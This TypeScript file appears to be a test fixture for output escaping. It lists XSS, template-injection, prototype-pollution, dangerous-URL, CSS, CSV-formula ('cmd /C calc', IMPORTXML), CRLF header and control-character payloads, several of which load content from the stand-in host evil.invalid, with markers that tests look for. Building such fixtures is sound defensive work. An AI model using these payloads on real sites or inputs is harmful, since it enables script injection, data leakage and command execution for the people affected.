/** Where a payload sends what it can: no test ever answers there. */
const away = "evil.invalid";

const events = `onload onerror onclick onmouseover onfocus onfocusin onblur ontoggle onbegin onanimationstart
  ontransitionend onpointerenter onscroll onwheel oncopy onpaste ondrag onsubmit oninput onbeforetoggle`;

/** Attributes that are read as a program, on elements that call them by themselves where there is a way. */
const handlers = events
  .split(/\s+/)
  .map((name, at) =>
    at % 2 === 0
      ? `<svg/${name}=pwned=1>`
      : `"><x tabindex=1 autofocus style="animation:a" ${name}='pwned=1'>`,
  );

const elements = [
  "<script>pwned=1</script>",
  `<script src=//${away}/a.js></script>`,
  "<SCRIPT\u000c>pwned=1</SCRIPT\n>",
  "</script><script>pwned=1</script>",
  "<scr<script>ipt>pwned=1</scr</script>ipt>",
  "<script type=module>import('data:text/javascript,pwned=1')</script>",
  "<script>pwned=1//",
  "<img src=x onerror=pwned=1>",
  "<img src=`x` onerror=pwned=1>",
  "<img/src/onerror=pwned=1>",
  `<img src=//${away}/a.png>`,
  `<img srcset="https://${away}/b.png 1x">`,
  "<image src=x onerror=pwned=1>",
  "<<img src=x onerror=pwned=1>>",
  "<img src=x onerror=&#112;wned=1>",
  "<img src=x:alert(pwned=1) onerror=eval(src)>",
  "<svg><script>pwned=1</script></svg>",
  "<svg><script href=data:,pwned=1 />",
  "<svg><animate onbegin=pwned=1 attributeName=x>",
  "<svg><set attributeName=onmouseover to=pwned=1>",
  "<svg><a xlink:href=javascript:pwned=1><text y=9>x</text></a></svg>",
  `<svg><use href=//${away}/u.svg#x>`,
  "<svg><foreignObject><iframe srcdoc='<script>pwned=1</script>'>",
  "<math><mtext></mtext><mglyph><style><img src onerror=pwned=1>",
  "<math href=javascript:pwned=1>x</math>",
  "<iframe src=javascript:pwned=1>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'>",
  `<iframe src=//${away}/>`,
  "<object data=javascript:pwned=1>",
  `<object data=//${away}/o.swf>`,
  "<embed src=javascript:pwned=1>",
  "<body onload=pwned=1>",
  "<html onmouseover=pwned=1>",
  "<video><source onerror=pwned=1></video>",
  `<video poster=//${away}/p.png src=x onerror=pwned=1>`,
  "<audio src=x onerror=pwned=1>",
  "<details open ontoggle=pwned=1>",
  "<marquee onstart=pwned=1>",
  "<input autofocus onfocus=pwned=1>",
  "<select autofocus onfocus=pwned=1>",
  "<textarea autofocus onfocus=pwned=1></textarea>",
  "</textarea><img src=x onerror=pwned=1>",
  "</title><img src=x onerror=pwned=1>",
  "</style><img src=x onerror=pwned=1>",
  "</option></select><img src=x onerror=pwned=1>",
  "--><img src=x onerror=pwned=1>",
  "]]><img src=x onerror=pwned=1>",
  "<!--><img src=x onerror=pwned=1>-->",
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
  "<template><img src=x onerror=pwned=1></template>",
  "<form action=javascript:pwned=1><button autofocus>x",
  `<form action=//${away}/><input type=submit id=submit>`,
  "<button formaction=javascript:pwned=1>x</button>",
  "<isindex action=javascript:pwned=1 type=image>",
  `<base href=//${away}/>`,
  `<meta http-equiv=refresh content="0;url=//${away}/">`,
  "<meta http-equiv=refresh content='0;javascript:pwned=1'>",
  `<link rel=stylesheet href=//${away}/a.css>`,
  `<link rel=prefetch href=//${away}/prefetch>`,
  "<link rel=import href='data:text/html,<script>pwned=1</script>'>",
  `<a href=//${away}/ ping=//${away}/ping>x</a>`,
  "<a href=javascript:pwned=1>x</a>",
  "<a href='java\tscript:pwned=1'>x</a>",
  "<a href=&#x6a;avascript:pwned=1>x</a>",
  `<portal src=//${away}/>`,
  "<dialog open onclose=pwned=1>",
  "<xss contenteditable onbeforeinput=pwned=1>",
  "<img src=x onerror='window.onerror=eval;throw\"=pwned\\x3d1\"'>",
  `<table background=//${away}/t.png>`,
  "<p id=root name=getElementById>",
  "<plaintext>",
  "<img name=body><img name=cookie>",
];

const attributes = [
  '" onmouseover=pwned=1 x="',
  "' onfocus=pwned=1 autofocus x='",
  "` onerror=pwned=1 `",
  "x onerror=pwned=1",
  '"><img src=x onerror=pwned=1>',
  "'><svg onload=pwned=1>",
  '" style="animation:x" onanimationstart="pwned=1',
  "&quot; onload=pwned=1",
  "&lt;img src=x onerror=pwned=1&gt;",
  "&#60;script&#62;pwned=1&#60;/script&#62;",
  "%3Cscript%3Epwned=1%3C/script%3E",
  "%253Cimg%2520src=x%2520onerror=pwned=1%253E",
  "\\u003cimg src=x onerror=pwned=1\\u003e",
  "\\x3cscript\\x3epwned=1\\x3c/script\\x3e",
  "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
  "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
];

const programs = [
  "';pwned=1;//",
  '";pwned=1;//',
  "\\';pwned=1;//",
  "${pwned=1}",
  "`${pwned=1}`",
  "{{constructor.constructor('pwned=1')()}}",
  "#{pwned=1}",
  "<%= pwned=1 %>",
  "{pwned=1}",
  "[[${pwned=1}]]",
  "*/pwned=1/*",
  "\u2028pwned=1//",
  "\u2029pwned=1//",
  "});pwned=1;({",
  '{"__html":"<img src=x onerror=pwned=1>"}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  '{"dangerouslySetInnerHTML":{"__html":"<script>pwned=1</script>"}}',
  "__proto__[pwned]=1",
  "constructor.prototype.pwned=1",
  "toString",
];

const addresses = [
  "javascript:pwned=1",
  "JaVaScRiPt:pwned=1",
  "\u0001javascript:pwned=1",
  "java\nscript:pwned=1",
  "javascript://%0apwned=1",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwned=1//'>",
  "vbscript:pwned=1",
  "data:text/html,<script>opener.pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>",
  "blob:null/pwned",
  "view-source:javascript:pwned=1",
  `//${away}/`,
  `/\\${away}/`,
  `\\\\${away}\\share`,
  `https://${away}/?q=`,
  `https://ok@${away}/`,
  `https://${away}#@localhost/`,
  "file:///etc/passwd",
  "ftp://evil.invalid/a",
  "../../../../ui/session",
  "..%2f..%2fconfig%2freload",
  "mailto:a@evil.invalid",
];

const styles = [
  "<style>*{display:none}</style>",
  `<style>@import '//${away}/i.css';</style>`,
  `<style>*{background:url(//${away}/bg)}</style>`,
  '<div style="width:expression(pwned=1)">',
  '<div style="background:url(javascript:pwned=1)">',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">',
  "}*{display:none}/*",
  `;background:url(//${away}/css)`,
  "--x:url(javascript:pwned=1)",
  "var(--danger);display:none",
];

const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.invalid/","x")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  '=IMPORTXML("https://evil.invalid/","//a")',
  '",=1+1,"',
];

const characters = [
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;https://evil.invalid/\u0007click\u001b]8;;\u0007",
  "\u001b[2J\u001b[H",
  "\u009b31m",
  "\u0000nul",
  "bell\u0007 back\u0008\u0008 del\u007f",
  "a\r\nSet-Cookie: pwned=1",
  "a\nb\nc",
  "\u202egpj.exe",
  "\u2066\u202eabc\u2069",
  "\u200f\u200e\u061cmarks",
  "zero\u200bwidth\ufeff",
  "soft\u00adhyphen",
  "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030aa\u0316\u0317\u0318\u0319\u031a\u031bl\u0328\u0329\u032ag\u0334\u0335\u0336o",
  "\u05d0\u05d1\u05d2 \u0627\u0644\u0639",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3f4}\u{e0067}\u{e007f}",
  "\u{e0001}\u{e0041}\u{e007f}tags",
  "\ufdfd\u{12031}\u2e3b",
  "W".repeat(90),
  "-".repeat(90),
  "\u3000wide\u3000blanks",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "true",
  "-0",
  "1e400",
  "9".repeat(60),
];

const all = [
  ...elements,
  ...handlers,
  ...attributes,
  ...programs,
  ...addresses,
  ...styles,
  ...formulas,
  ...characters,
];

/** Texts that would do harm where they are taken for anything but text; two hundred, no two alike. */
export const payloads: readonly string[] = [...new Set(all)];

/** A payload with a name at its end, by which it is found again where it is shown: `h017_model_`. */
export function marked(index: number, field: string): string {
  const text = payloads[index] ?? "";
  const isProgram = /^[\0-\x20]*(?:java|vb)\s*script:/i.test(text);
  return `${text}${isProgram ? "//" : " "}${markOf(index, field)}`;
}

/** What is looked for on a page. */
export function markOf(index: number, field: string): string {
  return `h${String(index).padStart(3, "0")}_${field}_`;
}
